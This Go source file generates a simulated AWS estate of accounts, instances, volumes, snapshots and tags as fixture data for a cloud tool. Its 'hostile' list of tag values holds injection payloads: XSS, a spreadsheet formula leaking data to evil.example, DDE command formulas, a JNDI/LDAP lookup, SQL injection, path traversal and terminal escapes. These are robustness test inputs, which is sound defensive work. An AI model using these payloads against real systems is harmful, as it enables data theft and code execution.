package simaws

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// Options of [Generate]. The zero value is the demo estate: 400 resources in 3 accounts and 3 regions.
type Options struct {
	// Seed decides everything; the same options give the same estate, byte for byte.
	Seed uint64
	// Accounts, at least 1 (default 3). From 10 on one more account is suspended, besides these.
	Accounts int
	// Regions of each account, 1 to 17 (default 3), us-east-1 first.
	Regions int
	// Resources in all: instances, volumes, snapshots and addresses (default 400; 1 to 10 million); images, groups and the rest of the network come on top.
	// From 500 on every scenario is there at least once.
	Resources int
	// Now is the moment the estate describes (default: the start of the current hour).
	Now time.Time
}

// Roles of every generated account. NightshiftReadOnly demands the external id of its account; the other is Organizations' own and demands none.
const (
	ReadOnlyRole = "NightshiftReadOnly"
	AdminRole    = "OrganizationAccountAccessRole"
)

// DemoAccessKey is the management account's static access key id. It opens nothing but this endpoint.
const DemoAccessKey = "AKIASIMAWS000EXAMPLE"

var regionNames = []string{
	"us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "us-east-2", "ap-southeast-2", "ap-northeast-1", "eu-west-2", "ap-southeast-1", "ca-central-1",
	"ap-south-1", "sa-east-1", "eu-north-1", "us-west-1", "eu-west-3", "ap-northeast-2", "ap-northeast-3",
}

type generator struct {
	rng    *rand.Rand
	now    time.Time
	left   int // resources still to make
	places []*place
	weight int
}

// place is where a scenario happens: a region of an account, with the account's environment.
type place struct {
	*Region
	environment string
	weight      int
	images      []string            // recent ones, to launch from
	aged        string              // and one that is old
	windows     string              //
	groupsOf    map[string][]string // application's security group
}

// Generate makes an estate. It is deterministic, takes about two seconds for 500,000 resources and about 650 bytes for each.
func Generate(o Options) *Estate {
	if o.Accounts <= 0 {
		o.Accounts = 3
	}
	if o.Regions <= 0 {
		o.Regions = 3
	}
	if o.Resources <= 0 {
		o.Resources = 400
	}
	if o.Now.IsZero() {
		o.Now = time.Now().Truncate(time.Hour)
	}
	g := &generator{rng: rand.New(rand.NewPCG(o.Seed, 0x6e69676874)), now: o.Now.UTC().Truncate(time.Second), left: o.Resources}
	e := &Estate{Version: 1, Seed: o.Seed, Now: g.now, Organization: fmt.Sprintf("o-%010x", g.rng.Uint64()&0xffffffffff)}
	g.accounts(e, o.Accounts, min(o.Regions, len(regionNames)))

	// Every scenario once, then more of them by weight.
	for _, i := range g.rng.Perm(len(scenarios)) {
		g.play(&scenarios[i], scenarios[i].pinned)
	}
	total := 0
	for i := range scenarios {
		total += scenarios[i].weight
	}
	for g.left > 0 {
		n := g.rng.IntN(total)
		for i := range scenarios {
			if n -= scenarios[i].weight; n < 0 {
				if scenarios[i].size > g.left {
					g.snapshot(g.place(), Snapshot{})
				} else {
					g.play(&scenarios[i], false)
				}
				break
			}
		}
	}
	for _, p := range g.places {
		for range 2 { // of public images; they are not ours and not counted
			p.Snapshots = append(p.Snapshots, Snapshot{ID: g.id("snap-"), Volume: "vol-ffffffff", Size: 8, Owner: amazonOwner, Started: g.ago(100, 900),
				Description: "Copied for DestinationAmi " + g.id("ami-") + " from SourceAmi " + g.id("ami-")})
		}
	}
	if err := e.Validate(); err != nil {
		panic("simaws: generated an estate that does not hold together: " + err.Error())
	}
	return e
}

func (g *generator) play(s *scenario, pinned bool) {
	if s.size > g.left {
		return
	}
	p := g.place()
	if pinned {
		p = g.places[0]
	}
	s.play(g, p, s.name)
}

var accountNames = []struct{ name, environment string }{
	{"shared-services", "production"}, {"production", "production"}, {"staging", "staging"}, {"data-platform", "production"}, {"sandbox", "development"},
	{"security", "production"}, {"mobile", "production"}, {"analytics", "production"}, {"ci", "development"},
}

func (g *generator) accounts(e *Estate, n, regions int) {
	ids := map[string]bool{}
	for i := range n {
		id := fmt.Sprintf("%012d", 100_000_000_000+g.rng.Int64N(899_999_999_999))
		for ids[id] {
			id = fmt.Sprintf("%012d", 100_000_000_000+g.rng.Int64N(899_999_999_999))
		}
		ids[id] = true
		name := accountNames[i%len(accountNames)]
		if i >= len(accountNames) {
			name.name = fmt.Sprintf("%s-%02d", name.name, i/len(accountNames)+1)
		}
		a := &Account{ID: id, Name: "larkspur-" + name.name, Email: "aws+" + name.name + "@larkspur.example", Joined: g.ago(900, 1500),
			AccessKey: "AKIA" + id + "DEMO",
			Roles:     []Role{{Name: ReadOnlyRole, ExternalID: fmt.Sprintf("ns-%016x", g.rng.Uint64())}, {Name: AdminRole}}}
		weight := 2
		switch i {
		case 0:
			a.AccessKey, weight = DemoAccessKey, 1
		case 1:
			weight = 6
		}
		for j, region := range regionNames[:regions] {
			r := &Region{Name: region, account: a}
			a.Regions = append(a.Regions, r)
			p := &place{Region: r, environment: name.environment, weight: weight * max(1, 6>>j), groupsOf: map[string][]string{}}
			g.furnish(p)
			g.places = append(g.places, p)
			g.weight += p.weight
		}
		e.Accounts = append(e.Accounts, a)
	}
	if n >= 10 {
		id := "099999999999"
		e.Accounts = append(e.Accounts, &Account{ID: id, Name: "larkspur-legacy", Email: "aws+legacy@larkspur.example", State: "SUSPENDED", Joined: g.ago(1500, 1600),
			AccessKey: "AKIA" + id + "DEMO", Roles: []Role{{Name: AdminRole}}, Regions: []*Region{}})
	}
}

func (g *generator) place() *place {
	n := g.rng.IntN(g.weight)
	for _, p := range g.places {
		if n -= p.weight; n < 0 {
			return p
		}
	}
	return g.places[0]
}

// ago is a random time between that many days before now.
func (g *generator) ago(from, to float64) time.Time {
	days := from + (to-from)*g.rng.Float64()
	return g.now.Add(-time.Duration(days * float64(day))).Truncate(time.Second)
}

// before is a random time between that many days before t.
func (g *generator) before(t time.Time, from, to float64) time.Time {
	days := from + (to-from)*g.rng.Float64()
	return t.Add(-time.Duration(days * float64(day))).Truncate(time.Second)
}

func (g *generator) id(prefix string) string {
	return string(appendID(make([]byte, 0, len(prefix)+17), prefix, g.rng.Uint64()))
}

func pick[T any](g *generator, from ...T) T { return from[g.rng.IntN(len(from))] }

func (g *generator) chance(percent int) bool { return g.rng.IntN(100) < percent }

func (g *generator) zone(p *place) string { return p.Name + pick(g, "a", "b", "c") }

func (g *generator) publicIP() string {
	return fmt.Sprintf("%d.%d.%d.%d", pick(g, 3, 18, 34, 44, 52, 54), g.rng.IntN(256), g.rng.IntN(256), 1+g.rng.IntN(254))
}

type team struct {
	name, costCenter string
	owners, apps     []string
}

var teams = []team{
	{"payments", "CC-4100", []string{"maria.santos", "jonas.weber"}, []string{"ledger", "card-vault", "payout"}},
	{"checkout", "CC-4110", []string{"aiko.tanaka", "payments-oncall"}, []string{"basket", "pricing-engine"}},
	{"search", "CC-4200", []string{"lena.fischer", "tom.okafor"}, []string{"indexer", "query-api", "suggest"}},
	{"platform", "CC-1000", []string{"priya.nair", "sam.doyle"}, []string{"bastion", "ci-runner", "monitoring", "registry"}},
	{"data", "CC-5000", []string{"chen.wei", "olga.petrova"}, []string{"warehouse", "event-lake", "feature-store", "airflow"}},
	{"mobile", "CC-4300", []string{"noah.larsen"}, []string{"push-gateway", "app-config"}},
	{"growth", "CC-6200", []string{"zoe.martin"}, []string{"experiment", "landing", "mailer"}},
	{"security", "CC-1200", []string{"ines.garcia"}, []string{"scanner", "siem"}},
}

// hostile are tag values that break whoever prints them without care: HTML, spreadsheet formulas, terminal escapes (as eight-bit controls, which XML lets
// through), direction overrides, and lengths at AWS's limit.
var hostile = []string{
	`<script>alert('owned')</script>`, `"><img src=x onerror=alert(1)>`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"click me")`, `+1+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|'/C calc'!A0`, "\t=1+1",
	"\u009b31mred alert\u009b0m\u009b2J", "\u009d0;owned\u009c", `\x1b[31mred\x1b[0m`,
	"invoice\u202egnp.exe", "\u2066\u202eadmin\u2069", strings.Repeat("A", 256), "first line\nsecond line\r\nthird",
	`'; DROP TABLE findings; --`, `${jndi:ldap://evil.example/x}`, `{{7*7}}`, `%s%n%x`, "  leading and trailing  ", "日本語の所有者 🦊", `../../etc/passwd`, "a\u200bb\ufeffc", `a,b;"c"|d`,
}

// tags of something a team runs in the place.
func (g *generator) tags(p *place) []Tag {
	t := &teams[g.rng.IntN(len(teams))]
	app := pick(g, t.apps...)
	tags := make([]Tag, 0, 5)
	tags = append(tags,
		Tag{"Name", fmt.Sprintf("%s-%s-%02d", app, p.environment[:4], 1+g.rng.IntN(40))},
		Tag{"Environment", p.environment}, Tag{"Application", app})
	switch n := g.rng.IntN(200); {
	case n < 2: // nobody's
	case n < 3:
		tags = append(tags, Tag{"owner", pick(g, t.owners...) + "@larkspur.example"})
	case n < 4:
		tags = append(tags, Tag{"Owner", " "})
	default:
		tags = append(tags, Tag{"Owner", pick(g, t.owners...) + "@larkspur.example"})
	}
	if !g.chance(1) {
		tags = append(tags, Tag{"CostCenter", t.costCenter})
	}
	return tags
}

// with returns the tags and more; the slice is not shared.
func with(tags []Tag, more ...Tag) []Tag { return setTags(tags, more) }

// disk makes a volume of a type with what the type has of IOPS and throughput.
func disk(kind string, size int32) Volume {
	v := Volume{Type: kind, Size: size}
	switch kind {
	case "gp2":
		v.IOPS = min(max(3*size, 100), 16000)
	case "gp3":
		v.IOPS, v.Throughput = 3000, 125
	case "io1", "io2":
		v.IOPS = min(max(1000, size*5), 20000)
	}
	return v
}

// root is a root volume, data a data volume, as people choose them.
func (g *generator) root() Volume {
	return disk(pick(g, "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp3", "gp2"), pick[int32](g, 8, 20, 30, 50, 100))
}

func (g *generator) data() Volume {
	switch n := g.rng.IntN(100); {
	case n < 73:
		v := disk("gp3", pick[int32](g, 50, 100, 200, 500, 1000))
		if g.chance(20) {
			v.IOPS, v.Throughput = pick[int32](g, 4000, 6000, 12000), pick[int32](g, 125, 250, 500)
		}
		return v
	case n < 75:
		return disk("gp2", pick[int32](g, 20, 100, 250, 500, 1000))
	case n < 83:
		return disk("io1", pick[int32](g, 100, 200, 400))
	case n < 88:
		return disk("io2", pick[int32](g, 100, 400))
	case n < 94:
		return disk("st1", pick[int32](g, 500, 1000, 2000))
	case n < 98:
		return disk("sc1", pick[int32](g, 500, 1000, 4000))
	}
	return disk("standard", pick[int32](g, 10, 40, 100))
}

var instanceTypes = []string{"t3.micro", "t3.small", "t3.medium", "t3.large", "t4g.small", "t4g.medium", "m5.large", "m5.xlarge", "m6i.large", "m6i.xlarge", "m7i.large", "m7g.large",
	"c5.large", "c6i.large", "c7g.large", "r5.large", "r6i.large", "r7g.large", "m4.large", "t2.medium"}

// launch puts an instance with its disks into the place and gives the index of the first disk. What the instance does not say is filled in; a terminated
// instance has no disks left.
func (g *generator) launch(p *place, in Instance, disks ...Volume) (first int) {
	in.ID = g.id("i-")
	if in.State == "" {
		in.State = "running"
	}
	if in.Type == "" {
		in.Type = pick(g, instanceTypes...)
	}
	if in.Zone == "" {
		in.Zone = g.zone(p)
	}
	if in.Image == "" {
		switch {
		case in.Windows:
			in.Image = p.windows
		case g.chance(3):
			in.Image = p.aged
		default:
			in.Image = pick(g, p.images...)
		}
	}
	if in.Tags == nil {
		in.Tags = g.tags(p)
	}
	if in.Launched.IsZero() {
		in.Launched = g.ago(9, 400)
	}
	if in.Created.IsZero() {
		in.Created = in.Launched
		if g.chance(40) && len(in.Runs) == 0 {
			in.Created = g.before(in.Launched, 1, 300)
			in.Runs = []Span{{in.Created, g.before(in.Launched, 0, in.Launched.Sub(in.Created).Hours()/24*0.3)}}
		}
	}
	if in.State == "running" && in.Load == "" {
		switch age := g.now.Sub(in.Launched); {
		case age < 2*day: // too young for a verdict, whoever counts
			in.Load = "idle"
		case age < 8*day:
			in.Load = pick(g, "busy", "office")
		default:
			in.Load = pick(g, "busy", "busy", "busy", "busy", "busy", "busy", "busy", "busy", "busy", "office", "office", "office", "office", "office", "office", "idle", "bursty", "oneday")
		}
	}
	if in.State == "running" && in.Case == "" && g.chance(4) {
		if in.PublicIP = g.publicIP(); g.chance(60) {
			in.Tags = with(in.Tags, Tag{"public-allowed", pick(g, "true", "yes", "true")})
		}
	}
	if in.Agent == "" && in.Case == "" && g.chance(45) {
		if in.Agent = pick(g, "id", "id+type", "id+image+type"); g.chance(6) && g.now.Sub(in.Launched) > 8*day {
			in.Memory = "low"
		}
		if _, member := tagValue(in.Tags, "aws:autoscaling:groupName"); member {
			in.Agent = "asg"
		}
	}
	in.Detailed = in.Detailed || g.chance(15)
	g.left--
	first = len(p.Volumes)
	for i := range disks {
		v := disks[i]
		v.Attachments = []Attachment{{Instance: in.ID, Device: rootDevice, At: in.Created, DeleteOnTermination: i == 0}}
		if i > 0 {
			v.Attachments[0].Device = "/dev/sd" + string(rune('e'+i))
		}
		v.State, v.Zone = "in-use", in.Zone
		if v.Created.IsZero() {
			v.Created = in.Created
		}
		if v.Tags == nil {
			v.Tags = in.Tags
		}
		if i == 0 {
			v.Snapshot = derived("snap-", in.Image)
		}
		g.volume(p, v)
	}
	p.Instances = append(p.Instances, in)
	if in.State != "terminated" {
		subnet := p.subnetID("private", in.Zone)
		if in.PublicIP != "" {
			subnet = p.subnetID("public", in.Zone)
		}
		p.Interfaces = append(p.Interfaces, Interface{ID: g.id("eni-"), Subnet: subnet, Groups: g.groupOf(p, in.Tags), Instance: in.ID})
	}
	return first
}

// volume puts a volume into the place.
func (g *generator) volume(p *place, v Volume) {
	if v.ID == "" {
		v.ID = g.id("vol-")
	}
	if v.State == "" {
		v.State = "available"
	}
	if v.Zone == "" {
		v.Zone = g.zone(p)
	}
	if v.Tags == nil {
		v.Tags = g.tags(p)
	}
	v.Encrypted = v.Encrypted || g.chance(98)
	g.left--
	p.Volumes = append(p.Volumes, v)
}

// untold is the full size of a snapshot of which the API does not tell it.
const untold = -1

// snapshot puts a snapshot into the place; without a volume it is of one long gone, or a copy.
func (g *generator) snapshot(p *place, s Snapshot) {
	if s.ID == "" {
		s.ID = g.id("snap-")
	}
	if s.Volume == "" {
		s.Volume = "vol-ffffffff"
		if g.chance(70) {
			s.Volume = g.id("vol-")
		}
		s.Size = pick[int32](g, 8, 30, 100, 500)
		if s.Started = g.ago(2, 80); g.chance(20) {
			s.Started = g.ago(95, 800)
		}
		s.Description = pick(g, "before upgrade", "manual backup", "", "decommissioned, keep for audit")
		s.Tags = g.tags(p)
	}
	switch s.FullBytes {
	case 0:
		s.FullBytes = int64(s.Size) << 30 / 100 * int64(20+g.rng.IntN(70))
	case untold:
		s.FullBytes = 0
	}
	s.Archived = s.Archived || s.Case == "" && g.chance(3)
	g.left--
	p.Snapshots = append(p.Snapshots, s)
}

// backup takes up to n snapshots of the place's volume, the newest first days ago; it takes fewer when the volume is young or the estate full.
func (g *generator) backup(p *place, volume, n int) {
	v := &p.Volumes[volume]
	at := g.ago(0.2, 2)
	tags, text := v.Tags, "nightly"
	switch g.rng.IntN(3) {
	case 0:
		tags = with(tags, Tag{"aws:dlm:lifecycle-policy-id", derived("policy-", p.account.ID)}, Tag{"dlm:managed", "true"})
		text = "Created for policy: " + derived("policy-", p.account.ID) + " schedule: nightly"
	case 1:
		tags, text = with(tags, Tag{"aws:backup:source-resource", p.arn("volume", v.ID)}), "This snapshot is created by the AWS Backup service."
	}
	for range n {
		if at.Before(v.Created) || g.left == 0 {
			return
		}
		g.snapshot(p, Snapshot{Volume: v.ID, Size: v.Size, Started: at, Encrypted: v.Encrypted, Description: text, Tags: tags})
		at = g.before(at, 1, 40)
	}
}

// address puts an Elastic IP into the place, on the instance launched last if on is true.
func (g *generator) address(p *place, on bool, tags []Tag) {
	a := Address{Allocation: g.id("eipalloc-"), PublicIP: g.publicIP(), Tags: tags}
	if on {
		a.Instance = p.Instances[len(p.Instances)-1].ID
	}
	g.left--
	p.Addresses = append(p.Addresses, a)
}
